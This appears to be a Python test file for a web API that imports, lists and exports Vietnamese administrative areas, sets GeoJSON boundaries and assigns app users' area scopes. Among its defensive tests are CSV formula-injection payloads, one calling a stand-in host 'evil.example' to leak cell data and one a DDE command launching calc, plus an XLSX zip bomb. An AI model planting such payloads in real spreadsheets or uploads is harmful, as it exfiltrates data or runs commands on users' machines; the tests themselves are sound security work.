"""The administrative tree over HTTP: import (CSV, XLSX), listing, export, boundaries, app users' area scopes."""

import csv
import io
import json
import time

import pytest
import sqlalchemy as sa

from server.extensions import db
from tests.factories import assign, create_project, create_user, login
from tests.factories_registry import (
    AREAS_CSV,
    MEBIBYTE,
    XLSX,
    feature_collection,
    import_areas,
    square,
    xlsx_from_rows,
    xlsx_zip_bomb,
)


def post_areas(client, headers, body, content_type="text/csv"):
    return client.post("/v1/areas/import", data=body, headers={**headers, "Content-Type": content_type})


def post_boundaries(client, headers, document, query=""):
    body = document if isinstance(document, (bytes, str)) else json.dumps(document)
    return client.post(f"/v1/areas/boundaries{query}", data=body,
                       headers={**headers, "Content-Type": "application/geo+json"})


def problem(response, code):
    assert response.status_code == int(code), response.get_json()
    body = response.get_json()
    assert body["code"] == code, body
    return body


def codes(client, headers, query=""):
    return [area["code"] for area in client.get(f"/v1/areas{query}", headers=headers).get_json()]


@pytest.fixture
def user(client):
    create_user("doc@example.org")
    return login(client, "doc@example.org")


def test_import_with_vietnamese_headers_then_again_changes_nothing(client, admin):
    text = AREAS_CSV.replace("ma,ten,cap,ma_cha,ma_huyen_cu", "Mã,Tên,Cấp,Mã cha,Mã huyện cũ,Ghi chú")
    first = post_areas(client, admin, text.encode())
    assert first.status_code == 200, first.get_json()
    assert first.get_json() == {"created": 7, "updated": 0, "unchanged": 0, "ignoredColumns": ["ghi_chu"]}
    again = post_areas(client, admin, text.encode()).get_json()
    assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, 7)

    renamed = text.replace("Tổ dân phố 2", "Tổ dân phố Hai")
    assert post_areas(client, admin, renamed.encode()).get_json()["updated"] == 1
    listed = client.get("/v1/areas?level=hamlet", headers=admin).get_json()
    assert [(area["code"], area["name"]) for area in listed] == [
        ("00004-01", "Tổ dân phố 1"), ("00004-02", "Tổ dân phố Hai"), ("00007-01", "Thôn Đông")]
    assert set(listed[0]) == {"id", "code", "name", "level", "parentCode", "legacyDistrictCode", "validFrom", "validTo",
                              "hasBoundary", "createdAt", "updatedAt"}


def test_two_tier_parents_and_legacy_districts(client, admin):
    import_areas()
    communes = {area["code"]: area for area in client.get("/v1/areas?level=commune", headers=admin).get_json()}
    # A commune given under its district (the pre-2025 shape) hangs under the province, district kept.
    assert (communes["00007"]["parentCode"], communes["00007"]["legacyDistrictCode"]) == ("01", "001")
    assert (communes["00004"]["parentCode"], communes["00004"]["legacyDistrictCode"]) == ("01", "001")
    assert codes(client, admin, "?parent=00004") == ["00004-01", "00004-02"]
    assert codes(client, admin, "?parent=01") == ["001", "00004", "00007"]
    tree = client.get("/v1/areas?tree=true", headers=admin).get_json()
    assert [area["code"] for area in tree] == ["01"]
    province = tree[0]
    assert [child["code"] for child in province["children"]] == ["001", "00004", "00007"]
    assert [hamlet["code"] for hamlet in province["children"][1]["children"]] == ["00004-01", "00004-02"]
    assert client.get("/v1/areas?parent=99", headers=admin).status_code == 404
    problem(client.get("/v1/areas?level=village", headers=admin), 400.8)


def test_xlsx_number_cells_get_their_leading_zeros_back(client, admin):
    workbook = xlsx_from_rows([["ma", "ten", "cap", "ma_cha", "hieu_luc_tu"],
                               [1, "Hà Nội", "Tỉnh", None, None],
                               [4, "Ba Đình", "Phường", 1, "01/07/2025"],
                               ["00004-01", "Tổ 1", "Tổ dân phố", 4.0, None]])
    response = post_areas(client, admin, workbook, XLSX)
    assert response.status_code == 200, response.get_json()
    areas = {area["code"]: area for area in client.get("/v1/areas", headers=admin).get_json()}
    assert set(areas) == {"01", "00004", "00004-01"}
    assert areas["00004"]["validFrom"] == "2025-07-01" and areas["00004-01"]["parentCode"] == "00004"


def test_any_user_reads_only_administrators_write(client, admin, user):
    import_areas()
    assert len(client.get("/v1/areas", headers=user).get_json()) == 7
    assert client.get("/v1/areas.csv", headers=user).status_code == 200
    problem(post_areas(client, user, AREAS_CSV.encode()), 403.1)
    problem(post_boundaries(client, user, feature_collection(({"code": "01"}, square(105.8, 21.0)))), 403.1)
    problem(client.get("/v1/areas"), 401.2)
    problem(post_areas(client, {}, AREAS_CSV.encode()), 401.2)


def test_every_bad_row_is_reported_with_its_row_number_and_nothing_is_written(client, admin):
    import_areas()
    bad = ("ma,ten,cap,ma_cha,hieu_luc_tu,hieu_luc_den\n"
           "02,Hà Giang,tinh,01,,\n"            # row 2: a province with a parent
           "00010,Xã Mới,xa,77,,\n"             # row 3: unknown parent
           ",Không mã,thon,00004,,\n"           # row 4: no code
           "00004-09,Tổ 9,xom nho,00004,,\n"    # row 5: unknown level word
           "00004-08,Tổ 8,thon,00004-01,,\n"    # row 6: a hamlet under a hamlet
           "00011,Xã Ngày,xa,01,ngày mai,\n"    # row 7: not a date
           "00012,Xã Lùi,xa,01,2025-07-01,2024-01-01\n"  # row 8: ends before it starts
           "00004,Phường Ba Đình,thon,00004,,\n"         # row 9: a commune cannot become a hamlet
           "00013,Xã A,xa,01,,\n"
           "00013,Xã A lần hai,xa,01,,\n")      # row 11: the same code twice
    body = problem(post_areas(client, admin, bad.encode()), 400.54)
    found = {(item["row"], item["column"]) for item in body["details"]["errors"]}
    assert found == {(2, "parent_code"), (3, "parent_code"), (4, "code"), (5, "level"), (6, "parent_code"),
                     (7, "valid_from"), (8, "valid_to"), (9, "level"), (11, "code")}
    assert body["details"]["count"] == 9
    messages = " ".join(item["message"] for item in body["details"]["errors"])
    assert "'77'" in messages and "00004-01 is a hamlet" in messages
    assert len(codes(client, admin)) == 7

    missing = problem(post_areas(client, admin, b"code,name\n01,X\n"), 400.54)
    assert "missing column level" in missing["details"]["errors"][0]["message"]


def test_formula_cells_are_stored_as_text_and_exported_harmless(client, admin):
    import_areas()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
    text = f'ma,ten,cap,ma_cha\n00004-03,"{hostile.replace(chr(34), chr(34) * 2)}",thon,00004\n'
    assert post_areas(client, admin, text.encode()).status_code == 200
    stored = client.get("/v1/areas/00004-03", headers=admin).get_json()
    assert stored["name"] == hostile
    exported = client.get("/v1/areas.csv", headers=admin)
    assert exported.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert rows[0] == ["ma", "ten", "cap", "ma_cha", "ma_huyen_cu", "hieu_luc_tu", "hieu_luc_den"]
    assert ["00004-03", "'" + hostile, "hamlet", "00004", "", "", ""] in rows
    # The export imports back unchanged: the apostrophe we added is taken off again.
    again = post_areas(client, admin, exported.data).get_json()
    assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, 8)


def test_hostile_and_wrong_uploads(client, admin, app, monkeypatch):
    bomb = xlsx_zip_bomb(200 * MEBIBYTE)
    started = time.monotonic()
    body = problem(post_areas(client, admin, bomb, XLSX), 400.54)
    assert time.monotonic() - started < 5
    assert "the limit is" in body["details"]["errors"][0]["message"]
    problem(post_areas(client, admin, b"PK\x03\x04 not a zip", XLSX), 400.54)
    xls = problem(post_areas(client, admin, b"\xd0\xcf\x11\xe0", "application/vnd.ms-excel"), 400.54)
    assert ".xlsx" in xls["details"]["errors"][0]["message"]
    latin1 = problem(post_areas(client, admin, "ma,ten,cap\n01,Hà Tây,tinh\n".encode("cp1258")), 400.54)
    assert "UTF-8" in latin1["details"]["errors"][0]["message"]
    problem(post_areas(client, admin, b"ma,ten,cap\n01,\x00,tinh\n"), 400.54)
    problem(post_areas(client, admin, b'{"ma": "01"}', "application/json"), 415.1)
    monkeypatch.setitem(app.config, "MAX_FORM_BYTES", 1000)
    problem(post_areas(client, admin, AREAS_CSV.encode() * 10), 413.1)
    assert codes(client, admin) == []


def test_boundaries_from_geojson(client, admin, app):
    import_areas()
    document = feature_collection(({"code": "4", "ten": "Ba Đình"}, square(105.81, 21.03)),
                                  ({"code": "00007"}, {"type": "MultiPolygon",
                                                       "coordinates": [square(105.9, 21.0)["coordinates"]]}))
    response = post_boundaries(client, admin, document)
    assert response.status_code == 200 and response.get_json() == {"updated": 2}
    area = client.get("/v1/areas/00004", headers=admin).get_json()
    assert area["hasBoundary"] is True and area["boundary"]["type"] == "MultiPolygon"
    assert area["boundary"]["coordinates"][0][0][0] == [105.81, 21.03]
    assert client.get("/v1/areas/00004-01", headers=admin).get_json()["boundary"] is None
    if db.engine.dialect.name == "postgresql":
        srid = db.session.execute(sa.text("SELECT ST_SRID(boundary), ST_GeometryType(boundary) FROM areas "
                                          "WHERE code = '00004'")).one()
        assert tuple(srid) == (4326, "ST_MultiPolygon")

    by_other_property = feature_collection(({"ma_tinh": "01"}, square(105.0, 21.0, 1.0)))
    assert post_boundaries(client, admin, by_other_property, "?property=ma_tinh").get_json() == {"updated": 1}


@pytest.mark.parametrize("geometry, says", [
    ({"type": "Polygon", "coordinates": [[[105.8, 21.0], [105.9, 21.0], [105.9, 21.1], [105.8, 21.1]]]}, "not closed"),
    ({"type": "Polygon", "coordinates": [[[105.8, 21.0], [105.9, 21.0], [105.8, 21.0]]]}, "at least four"),
    ({"type": "Polygon", "coordinates": [[[205.8, 21.0], [105.9, 21.0], [105.9, 21.1], [205.8, 21.0]]]}, "outside"),
    ({"type": "Polygon", "coordinates": [[["105.8", 21.0], [105.9, 21.0], [105.9, 21.1], ["105.8", 21.0]]]},
     "position"),
    ({"type": "Point", "coordinates": [105.8, 21.0]}, "Polygon or MultiPolygon"),
    (None, "no geometry"),
])
def test_bad_geometries_are_400_55_and_nothing_changes(client, admin, geometry, says):
    import_areas()
    document = feature_collection(({"code": "00007"}, square(105.9, 21.0)), ({"code": "00004"}, geometry))
    body = problem(post_boundaries(client, admin, document), 400.55)
    assert body["details"]["errors"][0]["feature"] == 1 and says in body["details"]["errors"][0]["message"]
    assert client.get("/v1/areas/00007", headers=admin).get_json()["hasBoundary"] is False


def test_geojson_that_is_no_feature_collection_or_names_no_area(client, admin):
    import_areas()
    problem(post_boundaries(client, admin, b"{not json"), 400.55)
    problem(post_boundaries(client, admin, b"[" * 100000), 400.55)
    problem(post_boundaries(client, admin, {"type": "Feature"}), 400.55)
    unknown = problem(post_boundaries(client, admin, feature_collection(({"code": "99999"}, square(1, 1)))), 400.55)
    assert "99999" in unknown["details"]["errors"][0]["message"]
    nameless = problem(post_boundaries(client, admin, feature_collection(({"ten": "X"}, square(1, 1)))), 400.55)
    assert "no area code" in nameless["details"]["errors"][0]["message"]
    twice = feature_collection(({"code": "00007"}, square(1, 1)), ({"code": "7"}, square(2, 2)))
    assert problem(post_boundaries(client, admin, twice), 400.55)["details"]["errors"][0]["feature"] == 1
    problem(client.post("/v1/areas/boundaries", data=b"{}", headers={**admin, "Content-Type": "text/plain"}), 415.1)


# App users' area scopes ----------------------------------------------------------------------------


@pytest.fixture
def manager(client, project):
    user = create_user("quanly@example.org")
    assign(user, "manager", project)
    return login(client, "quanly@example.org")


def app_user(client, headers, project):
    response = client.post(f"/v1/projects/{project.id}/app-users", json={"displayName": "Tình nguyện viên"},
                           headers=headers)
    assert response.status_code == 200, response.get_json()
    return response.get_json()["id"]


def scope_url(project, actor_id):
    return f"/v1/projects/{project.id}/app-users/{actor_id}/areas"


def test_managers_set_an_app_users_areas(client, admin, manager, project):
    import_areas()
    actor_id = app_user(client, manager, project)
    assert client.get(scope_url(project, actor_id), headers=manager).get_json() == {"areas": []}
    response = client.put(scope_url(project, actor_id), json={"areas": ["00004", "00007-01"]}, headers=manager)
    assert response.status_code == 200, response.get_json()
    assert [area["code"] for area in response.get_json()["areas"]] == ["00004", "00007-01"]
    listed = client.get(scope_url(project, actor_id), headers=manager).get_json()
    assert listed == response.get_json()
    # What GET answers can be PUT back as it is; [] clears.
    assert client.put(scope_url(project, actor_id), json=listed, headers=manager).get_json() == listed
    assert client.put(scope_url(project, actor_id), json={"areas": []}, headers=manager).get_json() == {"areas": []}
    audits = client.get("/v1/audits?action=field_key.areas", headers=admin).get_json()
    assert audits[0]["details"]["areas"] == [] and audits[-1]["details"]["areas"] == ["00004", "00007-01"]


def test_area_scope_errors(client, admin, manager, project):
    import_areas()
    actor_id = app_user(client, manager, project)
    problem(client.put(scope_url(project, actor_id), json={"areas": ["00004", "99999"]}, headers=manager), 400.8)
    problem(client.put(scope_url(project, actor_id), json={"areas": [5]}, headers=manager), 400.11)
    problem(client.put(scope_url(project, actor_id), json={"vung": []}, headers=manager), 400.2)
    viewer = create_user("xem@example.org")
    assign(viewer, "viewer", project)
    viewer_headers = login(client, "xem@example.org")
    problem(client.put(scope_url(project, actor_id), json={"areas": []}, headers=viewer_headers), 403.1)
    other = create_project("Xã Khác")
    problem(client.get(scope_url(other, actor_id), headers=admin), 404.1)
    problem(client.get(scope_url(project, 999999), headers=admin), 404.1)


# The command line ------------------------------------------------------------------------------------


@pytest.mark.slow
def test_cli_imports_areas_boundaries_and_registries(tmp_path):
    from tests.integration.test_live_server import run_cli
    env = {"DATABASE_URL": ""}  # its own SQLite in tmp_path, whatever database the tests use
    (tmp_path / "areas.csv").write_text(AREAS_CSV.replace("Tổ dân phố 2", '=cmd|" /C calc"!A0'), encoding="utf-8")
    imported = run_cli(["areas-import", str(tmp_path / "areas.csv")], env, tmp_path)
    assert imported.returncode == 0, imported.stderr
    assert "7 created, 0 updated, 0 unchanged" in imported.stdout
    reimported = run_cli(["areas-import", str(tmp_path / "areas.csv")], env, tmp_path)
    assert "0 created, 0 updated, 7 unchanged" in reimported.stdout

    (tmp_path / "bad.csv").write_text("ma,ten,cap,ma_cha\n00010,Xã Mới,xa,77\n", encoding="utf-8")
    refused = run_cli(["areas-import", str(tmp_path / "bad.csv")], env, tmp_path)
    assert refused.returncode == 1 and "row 2, parent_code: no area has the code '77'" in refused.stderr
    assert "Traceback" not in refused.stderr
    (tmp_path / "cu.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    assert run_cli(["areas-import", str(tmp_path / "cu.xls")], env, tmp_path).returncode == 1

    boundaries = feature_collection(({"code": "00004"}, square(105.8, 21.0)))
    (tmp_path / "ranh_gioi.geojson").write_text(json.dumps(boundaries))
    bounded = run_cli(["areas-boundaries", str(tmp_path / "ranh_gioi.geojson")], env, tmp_path)
    assert bounded.returncode == 0 and "Boundaries set for 1 areas." in bounded.stdout, bounded.stderr

    (tmp_path / "ho.csv").write_text("ma_ho,label,thon,chu_ho\nH1,Hộ An,00004-01,An\nH2,Hộ Bình,00004-02,Bình\n",
                                     encoding="utf-8")
    assert run_cli(["project-create", "Xã Một"], env, tmp_path).returncode == 0
    loaded = run_cli(["registry-import", "1", "ho_gia_dinh", str(tmp_path / "ho.csv"), "--key", "ma_ho"], env, tmp_path)
    assert loaded.returncode == 0, loaded.stderr
    assert "2 created" in loaded.stdout and "Properties added: ma_ho, thon, chu_ho" in loaded.stdout
    again = run_cli(["registry-import", "1", "ho_gia_dinh", str(tmp_path / "ho.csv"), "--key", "ma_ho"], env, tmp_path)
    assert "0 created, 0 updated, 2 unchanged" in again.stdout
    assert run_cli(["registry-import", "9", "ho_gia_dinh", str(tmp_path / "ho.csv")], env, tmp_path).returncode == 1
